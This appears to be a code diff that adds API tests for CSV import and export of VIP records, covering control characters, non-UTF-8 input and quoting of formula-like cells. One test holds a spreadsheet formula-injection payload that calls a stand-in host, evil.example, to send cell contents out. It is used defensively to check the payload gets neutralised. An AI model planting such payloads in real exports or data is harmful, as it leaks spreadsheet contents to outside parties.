@@ -192,6 +192,37 @@ describe('HTTP API guarantees', () => {
     });
   });
 
+  describe('CSV import and export', () => {
+    it('rejects only the row with a NUL byte, with its line and reason, and imports the rest', async () => {
+      const csv = 'email,level,name\nnul-ok-1@example.com,2,Fine\nnul-bad@example.com,3,Bad\u0000Name\nnul-ok-2@example.com,4,Also fine\n';
+      const answer = await call('POST', '/v1/vips/import?file=nul.csv', { token: tokens.writer, csv });
+      expect(answer.status, answer.text).toBe(200);
+      expect(answer.json).toMatchObject({ total: 3, valid: 2, invalid: 1, created: 2 });
+      expect(answer.json.errors).toEqual([{ row: 3, email: 'nul-bad@example.com', message: 'name contains a control character (U+0000); remove it' }]);
+      expect(await api.db.vip.count({ where: { email: { startsWith: 'nul-ok-' } } })).toBe(2);
+    });
+
+    it('refuses a file that is not UTF-8, naming its lines, instead of storing U+FFFD', async () => {
+      const text = 'email,level,name\nlatin-1@example.com,2,Ren\u00e9\nlatin-2@example.com,2,Plain\n';
+      const answer = await call('POST', '/v1/vips/import', { token: tokens.writer, csv: Uint8Array.from([...text].map((c) => c.charCodeAt(0))) });
+      expect(answer.status, answer.text).toBe(400);
+      expect(answer.json.message).toContain('not UTF-8: line 2 holds');
+      expect(await api.db.vip.count({ where: { email: { startsWith: 'latin-' } } })).toBe(0);
+    });
+
+    it('exports formula-like cells quoted, and reads its own export back unchanged', async () => {
+      const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+      expect((await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'formula@example.com', level: 5, name: evil, company: '@SUM(1+1)', notes: "'=kept as typed" } })).status).toBe(201);
+      const exported = await call('GET', '/v1/vips/export', { token: tokens.admin });
+      expect(exported.status).toBe(200);
+      expect(exported.text).toContain(`formula@example.com,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),5,,''=kept as typed`);
+      for (const line of exported.text.trim().split('\n').slice(1)) expect(line, line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+      const again = await call('POST', '/v1/vips/import', { token: tokens.writer, csv: exported.text });
+      expect(again.json).toMatchObject({ invalid: 0, created: 0, updated: 0 });
+      expect(await api.db.vip.findUniqueOrThrow({ where: { email: 'formula@example.com' } })).toMatchObject({ name: evil, company: '@SUM(1+1)', notes: "'=kept as typed" });
+    });
+  });
+
   describe('email identity', () => {
     it('treats the punycode, Unicode and decomposed forms of one address as one person', async () => {
       const added = await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'Jose\u0301@xn--bcher-kva.ch', level: 4 } });
